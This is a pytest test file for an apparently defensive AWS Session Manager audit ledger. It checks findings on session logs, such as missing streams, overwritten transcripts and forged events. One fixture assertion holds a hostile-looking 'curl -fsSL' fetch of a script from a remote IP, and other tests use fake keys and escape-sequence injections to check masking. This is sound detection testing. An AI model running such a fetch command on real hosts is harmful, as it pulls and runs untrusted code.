"""The session ledger's decisions (sessionguard.ledger) on real-format inputs: CloudTrail's session calls and S3's
notifications from EventBridge (events/ledger-*.json), the agent's plain-text upload, and each finding raised by
the session that should raise it and not by a normal session."""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sessionguard.alerting.transcript import sanitized_log_events
from sessionguard.ledger.calls import session_call, session_id_of_key, started_via, transcript_object
from sessionguard.ledger.decisions import (
    SWEEP_OVERLAP_SECONDS,
    SWEEP_WINDOW_MAX_SECONDS,
    SWEEP_WINDOW_MIN_SECONDS,
    LedgerTimings,
    closed_by_describe,
    due_findings,
    needs_records_read,
    next_sweep_window,
    opens_for_records,
    overwrite_finding,
    plan_transcript_scan,
    still_open,
    sweep_window,
)
from sessionguard.ledger.findings import (
    LOG_WITHOUT_SESSION,
    NO_TRANSCRIPT,
    NOT_STREAMED,
    STREAMING_STOPPED,
    TRANSCRIPT_OVERWRITTEN,
    FindingsError,
    findings,
    load_findings,
)
from sessionguard.ledger.model import (
    DELIVERY_RECORD_FILTER,
    DELIVERY_RECORD_KIND,
    SessionRecord,
    StreamDelivery,
    StreamTotals,
    delivery_record,
    parse_delivery_record,
    stream_delivery,
    stream_totals,
)
from sessionguard.session.engine import SanitizedLine
from sessionguard.session.records import SessionEvent, events_from_subscription

REPO = Path(__file__).resolve().parents[2]
EVENTS = REPO / "events"
sys.path.insert(0, str(Path(__file__).resolve().parent))
import make_ledger_fixtures as fixtures  # noqa: E402

T0 = 1_795_700_000  # a start time, epoch seconds
TIMINGS = LedgerTimings(not_streamed_after=300, no_transcript_after=900, start_grace=1200)


def sample(name: str) -> dict[str, Any]:
    return json.loads((EVENTS / name).read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def shell(**fields: Any) -> SessionRecord:
    """A shell session started at T0 (what StartSession of the preferences document records)."""
    base = SessionRecord(
        session_id="jane.roe-0131a888507e892b1",
        started_at=T0,
        target="i-0fedcba9876543210",
        document="SSM-SessionManagerRunShell",
        first_seen=T0,
    )
    return replace(base, **fields)


def streamed(**fields: Any) -> SessionRecord:
    return shell(stream_first=T0 + 2, stream_last=T0 + 400, stream_events=12, stream_lines=30, **fields)


def finding_ids(record: SessionRecord, now: int) -> list[str]:
    return [d.finding_id for d in due_findings(record, now, TIMINGS)]


# --- the fixtures are what the generator (and so the agent's code) makes ----------------------------------------


def test_fixtures_agree_with_their_generator(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fixtures, "EVENTS", tmp_path)
    for name in EVENTS.glob("cloudtrail-ssm-start-session-logged-shell.json"):
        (tmp_path / name.name).write_bytes(name.read_bytes())
    fixtures.main()
    for made in tmp_path.glob("ledger-*"):
        assert made.read_bytes() == (EVENTS / made.name).read_bytes(), made.name


def test_plain_text_events_are_whole_lines_up_to_200000_bytes_with_crlf_made_lf_and_no_final_newline() -> None:
    typescript = "Script started on 2026-11-26 15:20:05+00:00\n" + "x" * 150_000 + "\r\n" + "y" * 80_000 + "\r\n"
    messages = fixtures.plain_text_messages(typescript)
    assert [len(m.encode()) for m in messages] == [44 + 150_000, 80_000]
    assert all("\r" not in m and not m.endswith("\n") for m in messages)


# --- the plain-text upload is read as a transcript --------------------------------------------------------------


def test_the_agents_plain_text_upload_is_read_as_the_sessions_transcript() -> None:
    payload = sample("ledger-subscription-plain-text.json")
    (event,) = events_from_subscription(payload)
    assert isinstance(event, SessionEvent)
    assert event.transcript
    assert event.session_id == fixtures.COMMAND_SESSION  # the log stream is named after the session
    assert event.event_time == "2026-11-26T15:20:05+00:00"  # from `Script started on`
    assert not any(line.startswith("Script ") for line in event.lines)
    assert any("curl -fsSL http://203.0.113.50/i.sh" in line for line in event.lines)


def test_plain_text_among_streamed_json_events_is_still_malformed() -> None:
    payload = sample("ledger-subscription-plain-text.json")
    streamed_event = {"eventVersion": "1.0", "sessionId": fixtures.COMMAND_SESSION, "sessionData": ["$ id"],
                      "target": {"id": "i-1"}, "userIdentity": {"arn": "a"}, "runAsUser": "", "awsRegion": "",
                      "eventTime": ""}  # fmt: skip
    payload["logEvents"].append({"id": "1", "timestamp": 1, "message": json.dumps(streamed_event)})
    kinds = [type(item).__name__ for item in events_from_subscription(payload)]
    assert kinds == ["InputProblem", "SessionEvent"]


# --- Start: CloudTrail's session calls --------------------------------------------------------------------------


def test_start_session_gives_the_session_id_from_the_response_and_the_callers_context() -> None:
    call = session_call(sample("cloudtrail-ssm-start-session-logged-shell.json"))
    assert call is not None
    assert (call.name, call.session_id, call.target) == (
        "StartSession",
        "jane.roe-0131a888507e892b1",
        "i-0fedcba9876543210",
    )
    assert call.document == "SSM-SessionManagerRunShell"
    assert call.identity_type == "AssumedRole"
    assert call.mfa == "false"
    assert (call.source_ip, call.started_via) == ("203.0.113.24", "cli")
    assert call.event_id == "d4e0fc28-b0fa-aa74-7211-7527dce1f54e"


def test_the_reason_is_masked() -> None:
    call = session_call(sample("ledger-cloudtrail-start-interactive-bash.json"))
    assert call is not None
    assert call.document == "AWS-StartInteractiveCommand"
    assert "hunter2" not in call.reason
    assert call.reason.startswith("fix cron; db password [MASKED")


@pytest.mark.parametrize(
    ("name", "call_name"),
    [
        ("ledger-cloudtrail-resume-session.json", "ResumeSession"),
        ("ledger-cloudtrail-terminate-session.json", "TerminateSession"),
    ],
)
def test_resume_and_terminate_name_the_session(name: str, call_name: str) -> None:
    call = session_call(sample(name))
    assert call is not None
    assert (call.name, call.session_id) == (call_name, "jane.roe-0131a888507e892b1")


def test_a_failed_call_or_another_call_is_not_a_session_call() -> None:
    failed = sample("cloudtrail-ssm-start-session-logged-shell.json")
    failed["detail"]["errorCode"] = "AccessDeniedException"
    assert session_call(failed) is None
    assert session_call(sample("cloudtrail-ssm-update-preferences.json")) is None
    assert session_call({"detail": "junk"}) is None


@pytest.mark.parametrize(
    ("agent", "via"),
    [
        ("aws-cli/2.22.4 md/command#ssm.start-session", "cli"),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "console"),
        ("console.amazonaws.com", "console"),
        ("Boto3/1.35.0 md/Botocore#1.35.0", "sdk"),
        ("", ""),
    ],
)
def test_how_a_session_was_started_comes_from_the_user_agent(agent: str, via: str) -> None:
    assert started_via(agent) == via


# --- Transcript: S3's notification ------------------------------------------------------------------------------


def test_an_object_created_notification_names_the_session_size_and_version() -> None:
    obj = transcript_object(sample("ledger-s3-object-created.json"), "sessions")
    assert obj is not None
    assert (obj.session_id, obj.size, obj.version_id) == ("jane.roe-0131a888507e892b1", 1893, "3HL4kqtJvjVBH40Nrjfkd")
    assert transcript_object(sample("ledger-s3-object-created.json"), "other-prefix") is None


@pytest.mark.parametrize(
    ("key", "session_id"), [("sessions/a.b-0123.log", "a.b-0123"), ("x/notes.txt", ""), ("x/.log", "")]
)
def test_the_session_id_is_the_key_name_without_log(key: str, session_id: str) -> None:
    assert session_id_of_key(key) == session_id


# --- Stream: one update per delivery ----------------------------------------------------------------------------


def test_a_delivery_counts_streamed_events_and_lines_apart_from_plain_text() -> None:
    json_event = SessionEvent("s-1", ("$ id", "uid=0"))
    text_event = SessionEvent("s-1", ("a", "b", "c"), transcript=True)
    delivery = stream_delivery("s-1", "b-1", [1_795_700_002_500, 1_795_700_001_000], [json_event, text_event], 0)
    assert delivery is not None
    assert (delivery.first_event, delivery.last_event) == (1_795_700_001, 1_795_700_002)
    assert (delivery.events, delivery.lines, delivery.plain_text_events) == (1, 2, 1)
    assert stream_delivery("s-1", "b-2", [], [], 0) is None


# --- Stream: the delivery record, written in the transcript and read back by the ledger function -----------------

DELIVERY = StreamDelivery(
    session_id="jane.roe-0131a888507e892b1",
    batch_id="0f3c9a1b2d4e5f60718293a4b5c6d7e8",
    first_event=1_795_700_001,
    last_event=1_795_700_009,
    events=3,
    lines=11,
    plain_text_events=1,
    forged_events=2,
    user_arn="arn:aws:sts::111122223333:assumed-role/Admin/jane.roe",
    instance_id="i-0fedcba9876543210",
)


def test_a_delivery_record_reads_back_as_the_same_delivery() -> None:
    record = delivery_record(DELIVERY)
    assert record["kind"] == DELIVERY_RECORD_KIND
    assert parse_delivery_record(json.dumps(record)) == DELIVERY
    assert parse_delivery_record(json.dumps(record, ensure_ascii=False, indent=2)) == DELIVERY
    assert f'$.kind = "{DELIVERY_RECORD_KIND}"' in DELIVERY_RECORD_FILTER


def test_a_record_says_whether_its_attempt_was_complete_and_one_written_before_it_did_reads_as_complete() -> None:
    incomplete = replace(DELIVERY, complete=False)
    assert delivery_record(incomplete)["complete"] is False
    assert parse_delivery_record(json.dumps(delivery_record(incomplete))) == incomplete
    earlier = {key: value for key, value in delivery_record(DELIVERY).items() if key != "complete"}
    parsed = parse_delivery_record(json.dumps(earlier))
    assert parsed == DELIVERY
    assert parsed is not None
    assert parsed.complete
    # The ledger counts a batch once, whichever of its records it reads first (their counts are the delivery's).
    assert stream_totals([incomplete, DELIVERY]) == stream_totals([DELIVERY])


def test_a_delivery_record_masks_and_bounds_what_any_writer_of_the_session_group_chose() -> None:
    # The stream name, userIdentity.arn and target.id come from events any instance with the logging policy writes.
    secret, password = "AKIA2E0A8F3B244C9986", "hunter2xyz"
    hostile = replace(
        DELIVERY,
        session_id=f"s-{secret}",
        user_arn=f"arn:aws:iam::111122223333:user/x password={password}\n" + "u" * 2000,
        instance_id="i-0\x1b[2J" + "9" * 500,
    )
    message = json.dumps(delivery_record(hostile))
    assert secret not in message
    assert password not in message
    parsed = parse_delivery_record(message)
    assert parsed is not None
    assert len(parsed.user_arn) <= 512
    assert len(parsed.instance_id) <= 128
    assert parsed.session_id == "s-[MASKED:aws-access-key-id]"
    assert "\x1b" not in parsed.instance_id
    assert (parsed.lines, parsed.forged_events) == (DELIVERY.lines, DELIVERY.forged_events)


def test_a_typed_line_shaped_like_a_delivery_record_is_not_read_as_one() -> None:
    # What a user types lands inside a sanitized line's "text", never as its top-level "kind".
    typed = json.dumps(delivery_record(DELIVERY))
    lines = [
        SanitizedLine("jane.roe-0131a888507e892b1", "command", f"echo '{typed}'", "2026-11-26T10:00:00Z"),
        SanitizedLine("jane.roe-0131a888507e892b1", "output", typed, "2026-11-26T10:00:00Z"),
    ]
    events = sanitized_log_events(lines, 1_795_700_000_000)
    assert events
    assert [parse_delivery_record(event.message) for event in events] == [None] * len(events)


@pytest.mark.parametrize(
    "change",
    [
        {"kind": "command"},
        {"kind": "Delivery"},
        {"v": 2},
        {"v": True},
        {"events": -1},
        {"lines": True},
        {"lines": 1.5},
        {"lines": "11"},
        {"first_event": 2**60},
        {"session_id": ""},
        {"session_id": None},
        {"batch": ""},
        {"batch": "b" * 129},
        {"user_arn": ["arn"]},
        {"instance_id": "i" * 129},
        {"complete": None},
        {"complete": 0},
        {"complete": "false"},
    ],
)
def test_a_record_with_a_field_out_of_shape_is_not_a_delivery(change: dict[str, Any]) -> None:
    assert parse_delivery_record(json.dumps({**delivery_record(DELIVERY), **change})) is None


@pytest.mark.parametrize(
    "message",
    [
        "",
        "delivery",
        '"delivery"',
        '["delivery"]',
        '{"kind": "delivery"}',
        '{"kind": "delivery", "v": 1',
        '{"kind": "delivery", "v": 1, "x": ' + "[" * 3000 + "]" * 3000 + "}",
        json.dumps({**delivery_record(DELIVERY), "pad": "x" * 9000}),
        "\ud800" + json.dumps(delivery_record(DELIVERY)),
    ],
)
def test_hostile_or_oversized_messages_are_not_deliveries(message: str) -> None:
    assert parse_delivery_record(message) is None


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=6),
        max_leaves=20,
    ),
    st.sampled_from(["kind", "session_id", "batch", "lines", "events", "v", "user_arn", "complete"]),
)
def test_reading_any_json_never_raises(value: object, key: str) -> None:
    # Also with most of a real record around the drawn value, so the checks past "kind" are reached.
    assert parse_delivery_record(json.dumps(value)) is None or isinstance(value, dict)
    mixed = {**delivery_record(DELIVERY), key: value}
    parsed = parse_delivery_record(json.dumps(mixed))
    assert parsed is None or parsed.session_id


def test_a_streams_totals_count_each_batch_once_and_span_its_deliveries() -> None:
    first = replace(DELIVERY, batch_id="b-1", first_event=100, last_event=110, lines=2, user_arn="arn:first")
    late = replace(DELIVERY, batch_id="b-2", first_event=90, last_event=95, lines=3, user_arn="arn:late")
    totals = stream_totals([first, late, first])  # b-1 delivered twice
    assert (totals.batches, totals.lines, totals.events) == (2, 5, 6)
    assert (totals.first_event, totals.last_event) == (90, 110)
    assert totals.user_arn == "arn:late"  # the earliest delivery's
    assert stream_totals([]) == StreamTotals()


def test_an_item_of_the_previous_version_adds_its_legacy_counts_to_the_records_totals() -> None:
    item = {"session_id": "s-1", "stream_first": 50, "stream_last": 60, "stream_events": 2, "stream_lines": 4,
            "stream_user": "arn:legacy", "rec_batches": 1, "rec_first_event": 70, "rec_last_event": 80, "rec_events": 3,
            "rec_lines": 5, "rec_forged_events": 1, "rec_user_arn": "arn:records"}  # fmt: skip
    record = SessionRecord.from_item(item)
    assert (record.stream_events, record.stream_lines, record.forged_events) == (5, 9, 1)
    assert (record.stream_first, record.stream_last, record.stream_user) == (50, 80, "arn:legacy")
    # a later read of the records replaces their part, never the legacy one
    again = record.with_stream(StreamTotals(batches=2, first_event=70, last_event=90, events=4, lines=7))
    assert (again.stream_events, again.stream_lines, again.stream_last, again.forged_events) == (6, 11, 90, 0)
    assert again.stream_records.batches == 2


def test_the_sweep_reads_again_behind_its_checkpoint_and_catches_up_by_windows() -> None:
    now = 1_795_700_000_000
    assert sweep_window(0, now) == (now - SWEEP_WINDOW_MAX_SECONDS * 1000, now)
    assert sweep_window(now - 300_000, now) == (now - 300_000 - SWEEP_OVERLAP_SECONDS * 1000, now)
    behind = now - 2 * SWEEP_WINDOW_MAX_SECONDS * 1000
    start, end = sweep_window(behind, now)
    assert end - start == SWEEP_WINDOW_MAX_SECONDS * 1000
    assert end < now
    # a window the run could not finish is halved (not below a minute), one read whole doubles
    assert sweep_window(behind, now, 600) == (start, start + 600_000)
    assert next_sweep_window(600, complete=False) == 300
    assert next_sweep_window(SWEEP_WINDOW_MIN_SECONDS, complete=False) == SWEEP_WINDOW_MIN_SECONDS
    assert next_sweep_window(600, complete=True) == 1200
    assert next_sweep_window(SWEEP_WINDOW_MAX_SECONDS, complete=True) == SWEEP_WINDOW_MAX_SECONDS


READ = SessionRecord("s-1", started_at=100, records_seen=100, records_read_at=200, stream_events=4)


@pytest.mark.parametrize(
    ("record", "new", "forged", "active", "reads"),
    [
        (SessionRecord("s-1", started_at=100), False, False, True, False),  # no stream seen: nothing to read
        (SessionRecord("s-1", started_at=100), True, False, True, True),  # the sweep just found its stream
        (replace(READ, records_read_at=0), False, False, True, True),  # seen, never read (e.g. legacy counts)
        (READ, False, False, False, False),  # nothing new since its last read
        (READ, True, False, True, False),  # new records of a running, streamed session: later
        (READ, True, True, True, True),  # one of them carries forged events: SG-LG-004
        (READ, True, False, False, True),  # no longer active: its last event time may end it
        (replace(READ, stream_events=0, plain_text_events=1), True, False, True, True),  # not streamed yet
    ],
)
def test_the_reconciler_reads_a_sessions_records_when_a_decision_may_change_with_them(
    record: SessionRecord, new: bool, forged: bool, active: bool, reads: bool
) -> None:
    assert needs_records_read(record, new, forged, active) is reads


@pytest.mark.parametrize(
    ("state", "ingested_ms", "opens"),
    [
        (None, 1_000_000, True),  # a stream no item knows: SG-LG-004's case
        ((True, 0), 1_000_000, False),  # open already
        ((False, 2_000), 1_000_000, False),  # let go after a read that counted it
        ((False, 1_030), 1_000_000, True),  # ingested within a minute of that read: maybe not in it
        ((False, 500), 1_000_000, True),  # ingested after the last read
    ],
)
def test_records_open_a_session_no_item_knows_or_one_let_go_before_them(
    state: tuple[bool, int] | None, ingested_ms: int, opens: bool
) -> None:
    assert opens_for_records(state, ingested_ms) is opens


# --- SG-LG-001 session not streamed -----------------------------------------------------------------------------


def test_sg_lg_001_a_shell_session_active_five_minutes_without_a_stream_is_found() -> None:
    assert finding_ids(shell(), T0 + 300) == [NOT_STREAMED]


def test_sg_lg_001_a_streamed_session_or_one_younger_than_the_threshold_is_not() -> None:
    assert finding_ids(streamed(), T0 + 300) == []
    assert finding_ids(shell(), T0 + 299) == []


def test_sg_lg_001_a_port_forwarding_session_is_not_expected_to_stream() -> None:
    assert finding_ids(shell(document="AWS-StartPortForwardingSession"), T0 + 3600) == []


def test_sg_lg_001_is_raised_once() -> None:
    assert finding_ids(shell(findings=frozenset({NOT_STREAMED})), T0 + 600) == []


# --- SG-LG-002 streaming stopped --------------------------------------------------------------------------------


def test_sg_lg_002_commands_after_the_streamed_lines_mean_streaming_stopped() -> None:
    record = streamed()
    lines = ["line"] * 45
    plan = plan_transcript_scan(record, lines, commands_after=3)
    assert plan.finding is not None
    assert plan.finding.finding_id == STREAMING_STOPPED
    assert plan.start == 30  # only the unstreamed part is scanned: the streamed part's alerts were sent


def test_sg_lg_002_a_transcript_holding_what_was_streamed_is_not_scanned_again() -> None:
    plan = plan_transcript_scan(streamed(), ["line"] * 30, commands_after=0)
    assert (plan.finding, plan.scan) == (None, False)


def test_a_session_never_streamed_has_its_whole_transcript_scanned_without_sg_lg_002() -> None:
    plan = plan_transcript_scan(shell(), ["line"] * 10, commands_after=0)
    assert (plan.finding, plan.start) == (None, 0)


def test_a_session_read_from_its_plain_text_upload_is_not_scanned_twice() -> None:
    plan = plan_transcript_scan(shell(plain_text_events=1), ["line"] * 10, commands_after=2)
    assert (plan.finding, plan.scan) == (None, False)


# --- SG-LG-003 no transcript ------------------------------------------------------------------------------------


def test_sg_lg_003_a_session_ended_fifteen_minutes_ago_without_a_transcript_is_found() -> None:
    assert finding_ids(streamed(ended_at=T0 + 600), T0 + 600 + 900) == [NO_TRANSCRIPT]


def test_sg_lg_003_a_session_with_its_transcript_or_ended_recently_is_not() -> None:
    assert finding_ids(streamed(ended_at=T0 + 600, transcript_key="sessions/x.log"), T0 + 3600) == []
    assert finding_ids(streamed(ended_at=T0 + 600), T0 + 600 + 899) == []
    assert finding_ids(shell(document="AWS-StartSSHSession", ended_at=T0 + 60), T0 + 3600) == []


# --- SG-LG-004 log without a session ----------------------------------------------------------------------------


def test_sg_lg_004_a_stream_no_start_session_names_is_found_after_the_cloudtrail_grace() -> None:
    orphan = SessionRecord(session_id="ghost-0a1b2c3d4e5f60718", stream_first=T0, stream_events=3, first_seen=T0)
    assert finding_ids(orphan, T0 + 1200) == [LOG_WITHOUT_SESSION]


def test_sg_lg_004_a_stream_whose_start_arrives_within_the_grace_is_not() -> None:
    orphan = SessionRecord(session_id="ghost-0a1b2c3d4e5f60718", stream_first=T0, stream_events=3, first_seen=T0)
    assert finding_ids(orphan, T0 + 1199) == []
    assert finding_ids(streamed(), T0 + 1200) == []


def test_sg_lg_004_a_transcript_object_no_session_explains_is_found_too() -> None:
    stray = SessionRecord(session_id="ghost-0a1b2c3d4e5f60718", transcript_key="sessions/ghost-0a1b2c3d4e5f60718.log",
                          transcript_at=T0, first_seen=T0)  # fmt: skip
    assert finding_ids(stray, T0 + 1200) == [LOG_WITHOUT_SESSION]
    assert finding_ids(replace(stray, started_at=T0 - 5, document="SSM-SessionManagerRunShell"), T0 + 1200) == [
        NOT_STREAMED
    ]


def test_sg_lg_004_events_claiming_another_session_are_found_at_once() -> None:
    assert finding_ids(streamed(forged_events=2), T0 + 10) == [LOG_WITHOUT_SESSION]


# --- SG-LG-005 transcript overwritten ---------------------------------------------------------------------------


def test_sg_lg_005_a_second_version_of_the_transcript_is_found() -> None:
    record = streamed(transcript_key="sessions/x.log", transcript_version="v1", transcript_versions=1)
    due = overwrite_finding(record, "v2")
    assert due is not None
    assert due.finding_id == TRANSCRIPT_OVERWRITTEN


def test_sg_lg_005_the_first_version_or_the_same_version_again_is_not() -> None:
    assert overwrite_finding(streamed(), "v1") is None
    assert overwrite_finding(streamed(transcript_key="sessions/x.log", transcript_version="v1"), "v1") is None


# --- a normal session raises nothing, and the reconciler lets go of it -------------------------------------------


def test_a_normal_session_raises_no_finding_at_any_time() -> None:
    normal = streamed(ended_at=T0 + 600, end_source="TerminateSession", transcript_key="sessions/x.log",
                      transcript_version="v1", transcript_versions=1)  # fmt: skip
    for now in (T0 + 60, T0 + 600, T0 + 3600, T0 + 86400):
        assert finding_ids(normal, now) == []
    assert not still_open(normal, T0 + 3600, TIMINGS)
    assert still_open(streamed(), T0 + 3600, TIMINGS)  # running: look again


def test_the_reconciler_closes_from_history_or_after_a_quiet_stream() -> None:
    record = streamed()
    assert closed_by_describe(record, {record.session_id}, {}, T0 + 7200) == 0
    assert closed_by_describe(record, set(), {record.session_id: T0 + 700}, T0 + 7200) == T0 + 700
    assert closed_by_describe(record, set(), {}, T0 + 400 + 3600) == T0 + 400
    assert closed_by_describe(record, set(), {}, T0 + 401) == 0


# --- the findings as data ---------------------------------------------------------------------------------------


def test_every_finding_has_an_id_title_docs_and_examples() -> None:
    catalog = findings()
    assert list(catalog) == [
        NOT_STREAMED,
        STREAMING_STOPPED,
        NO_TRANSCRIPT,
        LOG_WITHOUT_SESSION,
        TRANSCRIPT_OVERWRITTEN,
    ]
    docs = (REPO / "docs" / "ledger.md").read_text(encoding="utf-8")
    for finding in catalog.values():
        assert finding.title
        assert finding.description
        assert finding.alert_example
        assert finding.quiet_example
        assert f"| {finding.id} | {finding.title} |" in docs


def test_the_loader_refuses_a_finding_with_a_wrong_condition() -> None:
    with pytest.raises(FindingsError):
        load_findings({"findings": [{"id": "SG-LG-001", "when": "no_transcript"}]})


def test_the_ledger_package_is_pure() -> None:
    # The ledger decides; its I/O is adapters.session_ledger. Importing every module must not load boto3.
    modules = [
        f"sessionguard.ledger.{name}" for name in ("calls", "model", "findings", "decisions", "listing", "command")
    ]
    loaded = "sorted({'boto3', 'botocore'} & set(sys.modules))"
    code = f"import sys\nfor name in {modules!r}: __import__(name)\nprint({loaded})"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=120)
    assert result.stdout.strip() == "[]"
